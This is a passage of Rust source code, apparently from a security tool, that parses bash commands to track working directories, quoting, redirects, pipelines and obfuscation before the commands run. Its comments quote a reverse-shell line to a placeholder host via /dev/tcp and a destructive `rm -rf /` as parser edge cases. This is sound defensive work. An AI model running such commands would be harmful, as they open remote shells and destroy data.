            if !code.trim().is_empty() {
                self.plan.obfuscated(Opacity::Other(
                    "sets `PROMPT_COMMAND`, code an interactive shell runs before each prompt"
                        .to_string(),
                ));
                self.plan.code.push((code, self.cwd.clone()));
            }
        } else if arith::runs_in_subscript(&arith::dequote(self.text(value))) {
            self.plan.obfuscated(Opacity::Other(format!(
                "assigns `{}`, whose array subscript runs a command wherever the value is used as a number",
                self.text(assignment)
            )));
        }
    }

    /// `a && b` and `a || b` (tree-sitter nests longer lists to the left). After `&&`,
    /// `b` runs where `a` succeeded, as the walk goes. After `||`, `b` runs where `a`
    /// failed (`OrElse`), and what follows the list where either side left it
    /// (`OrJoin`). A list of another shape is taken as statements in sequence, which
    /// only knows less.
    fn list<'t>(
        &mut self,
        kids: &[Node<'t>],
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
    ) {
        let parts: Vec<Node<'t>> = kids.iter().copied().filter(|k| k.is_named()).collect();
        let or = kids.iter().any(|c| !c.is_named() && c.kind_name() == "||");
        let [left, right] = parts.as_slice() else {
            push_sequence(kids, depth, in_subst, stack);
            return;
        };
        if !or {
            push_named(kids, depth, in_subst, stack);
            return;
        }
        let simple = is_command_like(left.kind_name())
            || (left.kind_name() == k::REDIRECTED_STATEMENT
                && left
                    .child_by_field_name(k::FIELD_BODY)
                    .is_some_and(|b| is_command_like(b.kind_name())));
        let visit = |node: Node<'t>| Task::Visit {
            node,
            depth: depth + 1,
            in_subst,
        };
        stack.push(Task::OrJoin);
        stack.push(visit(*right));
        stack.push(Task::OrElse { simple });
        stack.push(visit(*left));
        stack.push(Task::Mark);
    }

    /// `cd`, `pushd`, `popd` move the cwd for the commands after them.
    fn track_cwd(&mut self, cmd: &SimpleCommand) {
        let mut words: &[Word] = &cmd.words;
        if let Some(first) = words.first()
            && (first.text == "builtin" || first.text == "command")
        {
            words = words.get(1..).unwrap_or(&[]);
        }
        // bash's `time` keyword (and `time -p`) runs the command in this shell: `time cd
        // /tmp` moves it as `cd /tmp` does. Only as the first word and unquoted: after
        // `command`, or as `\time`, it is the program, which runs `cd` in a process of
        // its own.
        let keyword = |w: &Word| {
            w.text == "time"
                && self
                    .src
                    .get(w.start..)
                    .is_some_and(|t| t.starts_with("time"))
        };
        if words.len() == cmd.words.len() && words.first().is_some_and(keyword) {
            words = words.get(1..).unwrap_or(&[]);
            if words.first().is_some_and(|w| w.text == "-p") {
                words = words.get(1..).unwrap_or(&[]);
            }
        }
        let Some(first) = words.first() else { return };
        let args: Vec<&Word> = words
            .iter()
            .skip(1)
            .filter(|w| !(w.text.starts_with('-') && w.text.len() > 1))
            .collect();
        let target = |w: Option<&&Word>| -> Cwd {
            match w {
                None => Cwd::Known(self.ctx.home().to_path_buf()),
                Some(w) if w.dynamic && !is_home_word(&w.text) => Cwd::Unknown,
                Some(w) if w.text == "-" => Cwd::Unknown,
                Some(w) => {
                    match crate::model::paths::resolve_word(
                        &w.text,
                        self.cwd.path(),
                        self.ctx.home(),
                    ) {
                        Some(p) => Cwd::Known(p),
                        None => Cwd::Unknown,
                    }
                }
            }
        };
        let next = match first.text.as_str() {
            "cd" | "chdir" => target(args.first()),
            "pushd" => {
                let t = target(args.first());
                self.dir_stack.push(self.cwd.clone());
                t
            }
            "popd" => self.dir_stack.pop().unwrap_or(Cwd::Unknown),
            _ => return,
        };
        if next == Cwd::Unknown && self.plan.unknown_cwd_after.is_none() {
            self.plan.unknown_cwd_after = Some(format!("`{}`", cmd.text));
        }
        self.cwd = next;
    }

    /// The value of `$HOME` or `$PWD` (as written, `raw`) where the context knows it.
    fn context_value(&self, raw: &str) -> Option<String> {
        if !self.context_variables {
            return None;
        }
        match raw {
            "$HOME" => Some(self.ctx.home().display().to_string()),
            "$PWD" => self.cwd.path().map(|p| p.display().to_string()),
            _ => None,
        }
    }

    /// Evaluates a word-like node to its value with quotes removed; schedules the
    /// commands inside substitutions for visiting.
    fn word<'t>(
        &mut self,
        node: Node<'t>,
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
    ) -> Word {
        let mut out = Word {
            text: String::new(),
            dynamic: false,
            pattern: false,
            braces: false,
            start: node.start_byte(),
        };
        self.word_into(node, depth, in_subst, stack, &mut out, false);
        let raw = self.text(node);
        // A `~` bash did not expand (quoted or escaped: `'~/x'`, `\~/x`) or a `$HOME`
        // it took as text (`'$HOME/x'`) names a file below the cwd, while the paths
        // code reads both as the home: the word's place is left unknown (it asks).
        if !out.dynamic
            && ((out.text.starts_with('~') && !raw.starts_with('~'))
                || out.text.starts_with("$HOME")
                || out.text.starts_with("${HOME}"))
        {
            out.dynamic = true;
        }
        // Every word passes here: the cheap test first.
        out.braces = raw.contains('{')
            && !out.dynamic
            && raw == out.text
            && !raw.contains(['\\', '\'', '"', '$', '`'])
            && crate::shell::braces::count(raw) > 1;
        out
    }

    fn word_into<'t>(
        &mut self,
        node: Node<'t>,
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
        out: &mut Word,
        quoted: bool,
    ) {
        let raw = self.text(node);
        if depth > self.limits.max_depth {
            out.text.push_str(raw);
            out.dynamic = true;
            self.too_deep = Some(depth);
            return;
        }
        match node.kind_name() {
            k::WORD | k::COMMAND_NAME if node.named_child_count() == 0 => {
                if !quoted && raw.contains(['*', '?', '[']) {
                    out.pattern = true;
                }
                unescape_unquoted(raw, &mut out.text);
            }
            k::NUMBER
            | k::VARIABLE_NAME
            | k::REGEX
            | k::EXTGLOB_PATTERN
            | k::TEST_OPERATOR
            | k::FILE_DESCRIPTOR
                if node.named_child_count() == 0 =>
            {
                out.text.push_str(raw);
            }
            k::RAW_STRING => out.text.push_str(
                raw.strip_prefix('\'')
                    .and_then(|r| r.strip_suffix('\''))
                    .unwrap_or(raw),
            ),
            k::ANSI_C_STRING => {
                // A value the text cannot hold (bytes that are no UTF-8, a
                // locale-dependent `\u`) is unknown, like an expansion.
                if !decode_ansi_c(raw, &mut out.text) {
                    out.dynamic = true;
                    self.plan.obfuscated(Opacity::Other(
                        "holds a `$'…'` string whose value depends on the locale or is not text"
                            .to_string(),
                    ));
                }
            }
            k::STRING_CONTENT => unescape_double_quoted(raw, &mut out.text),
            k::SIMPLE_EXPANSION => match self.context_value(raw) {
                // Unquoted, bash splits the value and expands it as a pattern: only a
                // value with no blank and no pattern character is the word it reads.
                Some(v)
                    if quoted || !v.contains(|c: char| c.is_whitespace() || "*?[".contains(c)) =>
                {
                    out.text.push_str(&v);
                }
                _ => {
                    out.text.push_str(raw);
                    out.dynamic = true;
                }
            },
            k::BRACE_EXPRESSION => {
                out.text.push_str(raw);
                out.pattern = true;
            }
            k::STRING | k::TRANSLATED_STRING => {
                // Take the text between the quotes; children replace their own ranges.
                let start = node.start_byte() + if raw.starts_with('$') { 2 } else { 1 };
                let end = node.end_byte().saturating_sub(1).max(start);
                let mut pos = start;
                let mut cursor = node.walk();
                let kids: Vec<Node<'t>> = node.named_children(&mut cursor).collect();
                for child in kids {
                    if child.start_byte() > pos {
                        unescape_double_quoted(self.slice(pos, child.start_byte()), &mut out.text);
                    }
                    self.word_into(child, depth + 1, in_subst, stack, out, true);
                    pos = child.end_byte();
                }
                if end > pos {
                    unescape_double_quoted(self.slice(pos, end), &mut out.text);
                }
            }
            k::CONCATENATION | k::COMMAND_NAME | k::VARIABLE_ASSIGNMENT | k::WORD | k::NUMBER => {
                // Children cover parts of the text; the gaps are literal word text.
                let mut pos = node.start_byte();
                let mut cursor = node.walk();
                let kids: Vec<Node<'t>> = node.named_children(&mut cursor).collect();
                for child in kids {
                    if child.start_byte() > pos {
                        let gap = self.slice(pos, child.start_byte());
                        if !quoted && gap.contains(['*', '?', '[']) {
                            out.pattern = true;
                        }
                        unescape_unquoted(gap, &mut out.text);
                    }
                    self.word_into(child, depth + 1, in_subst, stack, out, quoted);
                    pos = child.end_byte();
                }
                if node.end_byte() > pos {
                    let gap = self.slice(pos, node.end_byte());
                    if !quoted && gap.contains(['*', '?', '[']) {
                        out.pattern = true;
                    }
                    unescape_unquoted(gap, &mut out.text);
                }
            }
            k::COMMAND_SUBSTITUTION
            | k::PROCESS_SUBSTITUTION
            | k::ARITHMETIC_EXPANSION
            | k::EXPANSION => {
                out.text.push_str(raw);
                out.dynamic = true;
                // Even `${HOME}` counts as obfuscated (DESIGN.md); paths still expand it.
                stack.push(Task::Visit {
                    node,
                    depth: depth + 1,
                    in_subst,
                });
            }
            _ => {
                // Expression shapes (arrays, subscripts, arithmetic): opaque values that
                // may still hide substitutions, so visit them.
                out.text.push_str(raw);
                out.dynamic = true;
                stack.push(Task::Visit {
                    node,
                    depth: depth + 1,
                    in_subst,
                });
            }
        }
    }
}

/// The `process.execute` subject: the words as bash runs them, without the assignment
/// prefixes (`lsblk=1 make deploy` runs `make deploy`, and must not match `ls*`). A bare
/// assignment (`X=1`, no command) is its own subject: it changes the shell's state.
/// Assignments that change what runs are requests of their own (`analysis`).
fn subject(cmd: &SimpleCommand) -> String {
    let words: &[Word] = if cmd.words.is_empty() {
        &cmd.assignments
    } else {
        &cmd.words
    };
    let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
    crate::model::vocab::collapse_whitespace(&texts.join(" "))
}

/// The assignments and words back in source order, joined by single spaces: the whole
/// command as written, for the request an environment assignment makes.
pub(crate) fn with_assignments(cmd: &SimpleCommand) -> String {
    let mut all: Vec<&Word> = cmd.assignments.iter().chain(cmd.words.iter()).collect();
    all.sort_by_key(|w| w.start);
    let texts: Vec<&str> = all.iter().map(|w| w.text.as_str()).collect();
    crate::model::vocab::collapse_whitespace(&texts.join(" "))
}

/// The destinations of a file redirect after its target: arguments of the command for
/// bash (`rm > /dev/null -rf /`), which the grammar hangs on the redirect. Not the digit
/// of the next redirect: in `bash -i >& /dev/tcp/h/1 0>&1` the grammar hangs the `0` of
/// `0>&1` here, where bash reads a digit word touching a redirect as its descriptor.
pub(crate) fn extra_destinations<'t>(node: Node<'t>, src: &str) -> Vec<Node<'t>> {
    let mut cursor = node.walk();
    let dests: Vec<Node<'t>> = node
        .children_by_field_name(k::FIELD_DESTINATION, &mut cursor)
        .collect();
    dests
        .into_iter()
        .skip(1)
        .filter(|d| {
            let digits = src
                .get(d.byte_range())
                .is_some_and(|t| t.bytes().all(|b| b.is_ascii_digit()));
            !(digits
                && node.next_sibling().is_some_and(|n| {
                    n.kind_name() == k::FILE_REDIRECT && n.start_byte() == d.end_byte()
                }))
        })
        .collect()
}

/// The redirect whose descriptor a digit word is: the grammar reads `0` in `cat 0< f`,
/// `echo x 0> f` or `bash 0<<< CODE` as an argument, where bash reads a digit word
/// touching a redirect operator as its descriptor (other digits it reads right).
pub(crate) fn glued_descriptor<'t>(word: Node<'t>, src: &str) -> Option<Node<'t>> {
    if !matches!(word.kind_name(), k::NUMBER | k::WORD) {
        return None;
    }
    let text = src.get(word.byte_range())?;
    if text.is_empty() || !text.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    let next = match word.next_sibling() {
        Some(n) => n,
        None => word.parent()?.next_sibling()?,
    };
    let mut cursor = next.walk();
    let own_descriptor = next
        .named_children(&mut cursor)
        .any(|c| c.kind_name() == k::FILE_DESCRIPTOR);
    (matches!(
        next.kind_name(),
        k::FILE_REDIRECT | k::HEREDOC_REDIRECT | k::HERESTRING_REDIRECT
    ) && next.start_byte() == word.end_byte()
        && !own_descriptor)
        .then_some(next)
}

/// A redirect's descriptor as bash reads it: its own, or the digit word glued before
/// it that the grammar gave the command (`glued_descriptor`).
pub(crate) fn descriptor<'t>(r: Node<'t>, src: &'t str) -> Option<&'t str> {
    let mut cursor = r.walk();
    if let Some(d) = r
        .named_children(&mut cursor)
        .find(|c| c.kind_name() == k::FILE_DESCRIPTOR)
    {
        return src.get(d.byte_range());
    }
    let before = r.prev_sibling()?;
    let word = if before.kind_name() == k::COMMAND {
        before.child(before.child_count().checked_sub(1)?)?
    } else {
        before
    };
    glued_descriptor(word, src)
        .filter(|n| n.id() == r.id())
        .and_then(|_| src.get(word.byte_range()))
}

/// A redirect read (`Walker::redirect_parts`): each redirect with whether it feeds text
/// inline, and the words after it that are the command's arguments.
type RedirectParts = (Vec<(Redirect, bool)>, Vec<Word>);

/// The kinds of a word (an argument), as the grammar hangs one anywhere.
pub(crate) fn is_word_kind(kind: &str) -> bool {
    matches!(
        kind,
        k::WORD
            | k::NUMBER
            | k::STRING
            | k::RAW_STRING
            | k::ANSI_C_STRING
            | k::TRANSLATED_STRING
            | k::CONCATENATION
            | k::SIMPLE_EXPANSION
            | k::EXPANSION
            | k::COMMAND_SUBSTITUTION
            | k::PROCESS_SUBSTITUTION
            | k::ARITHMETIC_EXPANSION
            | k::BRACE_EXPRESSION
    )
}

fn is_command_like(kind: &str) -> bool {
    matches!(
        kind,
        k::COMMAND
            | k::DECLARATION_COMMAND
            | k::UNSET_COMMAND
            | k::TEST_COMMAND
            | k::VARIABLE_ASSIGNMENT
            | k::VARIABLE_ASSIGNMENTS
    )
}

/// The command texts of the backtick substitutions in an unquoted here-document body,
/// unescaped as bash reads them: in a body, `\` escapes only `$`, `` ` ``, `\` and a
/// newline; inside backticks, `\``, `\\` and `\$` lose their backslash.
fn heredoc_backticks(body: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = body.chars();
    let mut current: Option<String> = None;
    while let Some(c) = chars.next() {
        match (c, current.as_mut()) {
            ('\\', None) => {
                chars.next();
            }
            ('\\', Some(code)) => match chars.next() {
                Some(n @ ('`' | '\\' | '$')) => code.push(n),
                Some(n) => {
                    code.push('\\');
                    code.push(n);
                }
                None => code.push('\\'),
            },
            ('`', None) => current = Some(String::new()),
            ('`', Some(_)) => out.extend(current.take()),
            (c, Some(code)) => code.push(c),
            (_, None) => {}
        }
    }
    // An unterminated backtick runs to the end of the body, as bash reads it.
    out.extend(current.filter(|c| !c.is_empty()));
    out
}

fn describe_subst(kind: &str) -> &'static str {
    match kind {
        k::COMMAND_SUBSTITUTION => "command substitution",
        k::PROCESS_SUBSTITUTION => "process substitution",
        k::ARITHMETIC_EXPANSION => "arithmetic expansion",
        _ => "parameter expansion `${…}`",
    }
}

fn is_home_word(w: &str) -> bool {
    w == "$HOME" || w == "${HOME}" || w.starts_with("$HOME/") || w.starts_with("${HOME}/")
}

/// The operator token of a redirect (`>`, `>>`, `&>`, `>&`, `<`, `>|`, `<>`, …).
/// The grammar has no `<>`: it reads `<` and an ERROR `>` right after it (see
/// `ast::only_read_write_redirects`), which is `<>` here.
fn operator_of(node: Node<'_>, src: &str) -> String {
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        if !child.is_named() {
            let op = src.get(child.byte_range()).unwrap_or("").to_string();
            let read_write = op == "<"
                && child
                    .next_sibling()
                    .is_some_and(|n| n.is_error() && n.start_byte() == child.end_byte());
            return if read_write { "<>".to_string() } else { op };
        }
    }
    String::new()
}

/// Where the pipeline stage before the command at `node` starts, when that stage is a
/// simple command (redirected or not) joined to this one's stage by a plain `|`: its
/// output, and nothing else (`|&` adds its errors), is this command's input.
fn piped_from(node: Node<'_>) -> Option<usize> {
    let stage = match node.parent() {
        Some(p) if p.kind_name() == k::REDIRECTED_STATEMENT => p,
        _ => node,
    };
    let pipeline = stage.parent()?;
    // tree-sitter-bash hangs a redirect after the last stage on the whole pipeline
    // (`a | xargs cat < f`), where bash gives it to that stage: its input is then the
    // file, not the pipe.
    if pipeline.kind_name() != k::PIPELINE
        || pipeline
            .parent()
            .is_some_and(|p| p.kind_name() == k::REDIRECTED_STATEMENT)
    {
        return None;
    }
    let op = stage.prev_sibling()?;
    if op.kind_name() != "|" {
        return None;
    }
    let before = op.prev_sibling()?;
    let command = match before.kind_name() {
        k::COMMAND => before,
        k::REDIRECTED_STATEMENT => before
            .child_by_field_name("body")
            .filter(|b| b.kind_name() == k::COMMAND)?,
        _ => return None,
    };
    Some(command.start_byte())
}

/// How bash runs the command at `node`, within the innermost function body around it
/// (or the whole text): whether it forks — a stage of a pipeline, or a statement sent
/// to the background (`&` follows it at some level) — and whether it runs only on a
/// condition: after `&&`/`||`, after an `if`'s `then`, in an `elif`/`else`, a loop's
/// body or a `case` item. An `if`'s or loop's condition runs at least once.
fn forks_and_condition(node: Node<'_>) -> (bool, bool) {
    let mut forks = false;
    let mut conditional = false;
    let mut cur = node;
    while let Some(parent) = cur.parent() {
        if cur.next_sibling().is_some_and(|s| s.kind_name() == "&") {
            forks = true;
        }
        match parent.kind_name() {
            k::FUNCTION_DEFINITION => break,
            k::PIPELINE => forks = true,
            k::LIST => {
                conditional |= cur
                    .prev_sibling()
                    .is_some_and(|p| matches!(p.kind_name(), "&&" | "||"));
            }
            k::IF_STATEMENT => {
                // Children after the first `then` are the branch.
                let mut c = parent.walk();
                let then_at = parent
                    .children(&mut c)
                    .find(|n| n.kind_name() == "then")
                    .map(|n| n.start_byte());
                conditional |= then_at.is_some_and(|t| cur.start_byte() > t);
            }
            k::ELIF_CLAUSE | k::ELSE_CLAUSE | k::DO_GROUP | k::CASE_ITEM => conditional = true,
            _ => {}
        }
        cur = parent;
    }
    (forks, conditional)
}
